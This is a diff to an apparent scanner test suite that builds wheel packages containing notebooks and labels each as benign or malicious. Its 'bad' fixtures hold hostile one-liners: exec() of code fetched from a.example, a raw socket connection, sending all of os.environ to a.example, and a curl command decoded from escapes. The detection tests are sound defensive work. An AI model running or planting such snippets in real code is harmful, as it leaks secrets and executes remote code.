@@ -7,6 +7,7 @@ import base64
 import csv
 import hashlib
 import io
+import json
 import math
 import struct
 import zlib
@@ -36,6 +37,13 @@ def _hexadecimal(*, wrong: bool = False) -> bytes:
 def _module(source: str) -> bytes:
     """A wheel with a module that does something when it is imported."""
     return make.wheel({"lock_demo/a.py": source.encode()})
+
+
+def _cells(source: str) -> bytes:
+    """A wheel with a notebook."""
+    cell = {"cell_type": "code", "source": [source], "outputs": [], "metadata": {}}
+    said = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+    return make.wheel({"lock_demo/examples/a.ipynb": json.dumps(said).encode()})
 
 
 def _setid(name: str) -> bytes:
@@ -178,6 +186,11 @@ CONSTRUCTS_GOOD = [
         good(f"letters that nobody sees in names of {name}", name, pack(dict.fromkeys(_UNSEEN, b"x\n")))
         for name, pack in (("a.zip", make.zipped), ("a.tar", make.tar))
     ),
+    *(
+        good(f"a notebook that fetches an example by {fetches.split()[1]}", WHEEL,
+             _cells(f"{fetches}\nimage = {fetches.split()[-1]}('https://a.example/a.png')\n"), "python")
+        for fetches in ("from urllib.request import urlopen", "from requests import get")
+    ),
     good("letters that streams draw, of size 1", "a.pdf", _drawn(100), "document"),
     good("letters that streams draw, turned", "a.pdf", _drawn(100, turn=0.7), "document"),
     good("a script that tells a file by letters in escapes", "a.sh", _MAGIC % b"\"$(printf '\\102\\132')\")"),
@@ -188,6 +201,10 @@ CONSTRUCTS_GOOD = [
         {"lock_demo/demo.1": _netrc("my_lock_password")}
     ), "python"),
 ]  # fmt: skip
+
+CONSTRUCTS_UNREAD = [
+    ("a table of letters that begins as a font does", "a.dat", b"\0\1\0\0\0\0DEFAULT\0\0\1" + bytes(900)),
+]
 
 CONSTRUCTS_BAD = [
     bad("a wheel whose RECORD has other digests in hexadecimal", WHEEL, _hexadecimal(wrong=True),
@@ -258,4 +275,16 @@ CONSTRUCTS_BAD = [
         "shell-decoded"),
     bad("a command in escapes, made small", "a.sh",
         b"#!/bin/sh\n$(printf '\\103\\125\\122\\114' | tr A-Z a-z) a.example\n", "shell-decoded"),
+    bad("a notebook that runs what it fetches", WHEEL,
+        _cells("from urllib.request import urlopen\nexec(urlopen('https://a.example/a').read())\n"),
+        "python-decoded-code", "python"),
+    bad("a notebook that opens a socket", WHEEL,
+        _cells("import socket\nsocket.create_connection(('a.example', 99))\n"),
+        "python-import-network", "python"),
+    bad("a notebook that sends the settings of its environment", WHEEL,
+        _cells("import os, requests\nrequests.get('https://a.example/?' + str(dict(os.environ)))\n"),
+        "python-steals", "python"),
+    bad("a module beside notebooks that fetches", WHEEL,
+        _module("from urllib.request import urlopen\nA = urlopen('https://a.example/a.png').read()\n"),
+        "python-import-network", "python"),
 ]  # fmt: skip
